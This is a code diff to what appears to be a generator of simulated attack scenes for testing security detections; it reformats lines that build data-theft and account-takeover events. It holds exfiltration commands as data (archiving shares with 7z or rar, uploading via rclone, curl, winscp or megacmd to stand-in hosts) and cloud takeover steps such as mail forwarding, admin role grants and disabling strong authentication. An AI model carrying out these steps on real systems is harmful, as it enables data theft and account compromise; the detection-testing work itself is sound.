@@ -44,19 +44,29 @@ def copies_to_cloud(scene: Scene) -> Expected:
         (
             (f"{folder}7z.exe", f'{folder}7z.exe a -p{who.word()} -mhe=on {packed} "\\\\SV-01\\drawing\\*"'),
             (f"{folder}rar.exe", f"{folder}rar.exe a -hp{who.word()} -r {packed} D:\\設計"),
-            ("C:\\Program Files\\7-Zip\\7z.exe", f'"C:\\Program Files\\7-Zip\\7z.exe" a -tzip -p{who.word()} {packed} C:\\Users\\{host.user}\\Documents'),
+            (
+                "C:\\Program Files\\7-Zip\\7z.exe",
+                f'"C:\\Program Files\\7-Zip\\7z.exe" a -tzip -p{who.word()} {packed} C:\\Users\\{host.user}\\Documents',
+            ),
         )
-    )  # fmt: skip
+    )
     scene.then(Started(host, packer, command, CMD))
     sender, command = random.choice(
         (
             (f"{folder}rclone.exe", f"rclone.exe copy {packed} remote:{who.word()} --transfers 10 -q"),
-            (f"{folder}{who.tool}", f"{folder}{who.tool} copy --max-age 2y \\\\SV-01\\share mega:{who.word()} --config {folder}c.conf --no-check-certificate"),
+            (
+                f"{folder}{who.tool}",
+                f"{folder}{who.tool} copy --max-age 2y \\\\SV-01\\share mega:{who.word()} "
+                f"--config {folder}c.conf --no-check-certificate",
+            ),
             (f"{SYSTEM}curl.exe", f"curl -T {packed} https://transfer.{who.domain()}/{who.word()}"),
-            (f"{folder}winscp.com", f'winscp.com /command "open sftp://{who.word()}:{who.word()}@{who.home.ip}" "put {packed}" exit'),
+            (
+                f"{folder}winscp.com",
+                f'winscp.com /command "open sftp://{who.word()}:{who.word()}@{who.home.ip}" "put {packed}" exit',
+            ),
             (f"{folder}megacmd.exe", f"megacmd.exe put {packed}"),
         )
-    )  # fmt: skip
+    )
     scene.then(Started(host, sender, command, CMD), (60, 900))
     scene.then(Connected(host, sender, who.store, sent=900 << 20, received=30_000, seconds=700))
     return expect([host], ("data_taken_out", "data_upload", *RUNS))
@@ -141,14 +151,28 @@ def account_taken(scene: Scene) -> Expected:
     outside = f"{who.word()}@{who.domain()}"
     for operation, details in random.sample(
         (
-            ("Set-Mailbox", (("Identity", victim.mail), ("ForwardingSmtpAddress", f"smtp:{outside}"), ("DeliverToMailboxAndForward", "True"))),
+            (
+                "Set-Mailbox",
+                (
+                    ("Identity", victim.mail),
+                    ("ForwardingSmtpAddress", f"smtp:{outside}"),
+                    ("DeliverToMailboxAndForward", "True"),
+                ),
+            ),
             ("New-InboxRule", (("Name", "."), ("ForwardTo", outside))),
             ("Add member to role.", (("ObjectId", victim.mail), ("Role.DisplayName", "Global Administrator"))),
-            ("Consent to application.", (("ObjectId", who.word()), ("ConsentContext.IsAdminConsent", "False"), ("ConsentAction.Permissions", "Mail.Read Mail.Send offline_access"))),
+            (
+                "Consent to application.",
+                (
+                    ("ObjectId", who.word()),
+                    ("ConsentContext.IsAdminConsent", "False"),
+                    ("ConsentAction.Permissions", "Mail.Read Mail.Send offline_access"),
+                ),
+            ),
             ("Disable Strong Authentication.", (("ObjectId", victim.mail),)),
         ),
         2,
-    ):  # fmt: skip
+    ):
         scene.then(Cloud(victim.mail, operation, stranger, details), (60, 900))
     return expect([victim, stranger], ("account_takeover", "unusual_sign_in"))
 
